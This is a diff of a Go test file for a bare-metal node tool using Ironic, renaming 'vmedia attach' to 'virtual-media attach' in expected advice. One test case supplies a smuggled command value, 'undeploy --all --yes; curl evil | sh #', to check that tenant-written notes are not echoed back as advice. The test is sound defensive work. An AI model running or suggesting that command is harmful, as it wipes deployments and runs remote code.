@@ -78,8 +78,8 @@ func TestNext_cases(t *testing.T) {
 		want   []string // what each advice contains
 	}{
 		"failed command": {"manageable", func(n *ironic.Node) {
-			n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": "vmedia attach", "by": "ops@host", "since": now, "failed": now, "goal": "media in cdrom"}}}
-		}, []string{"Ironic does not allocate the node", "An operation has failed: metal vmedia attach of ops@host"}},
+			n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": "virtual-media attach", "by": "ops@host", "since": now, "failed": now, "goal": "media in cdrom"}}}
+		}, []string{"Ironic does not allocate the node", "An operation has failed: metal virtual-media attach of ops@host"}},
 		"command at work":          {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"Ironic does not allocate the node", "An operation has not ended: metal inspect of ops@host"}},
 		"another fault":            {"clean failed", func(n *ironic.Node) { n.Maintenance, n.Fault = true, "clean failure" }, []string{"fault \"clean failure\"", "The disks may still hold data"}},
 		"a run changes interfaces": {"manageable", func(n *ironic.Node) { n.Maintenance, n.MaintenanceReason = true, machine.ReasonChanging }, []string{"apply again, which ends the maintenance", "metal provide"}},
@@ -104,7 +104,7 @@ func TestNext_cases(t *testing.T) {
 		"reserved, being cleaned":    {"cleaning", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"Ironic is at work"}},
 		"allocation is not restored": {"available", func(n *ironic.Node) { n.Extra = suspended }, []string{"allocation web-3 was not created again"}},
 		"metal was killed":           {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"metal provide", "run it again: metal inspect rack1-07"}},
-		"no medium was attached":     {"active", interrupted("vmedia attach", "media in disk"), []string{"run it again: metal vmedia attach rack1-07 --device disk --image URL"}},
+		"no medium was attached":     {"active", interrupted("virtual-media attach", "media in disk"), []string{"run it again: metal virtual-media attach rack1-07 --device disk --image-url URL"}},
 		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", marks.GoalPowerOn), nil},
 		"retired":                    {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"metal unretire rack1-07"}},
 		"a name like a flag":         {"active", func(n *ironic.Node) { n.Name, n.Maintenance = "--all", true }, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
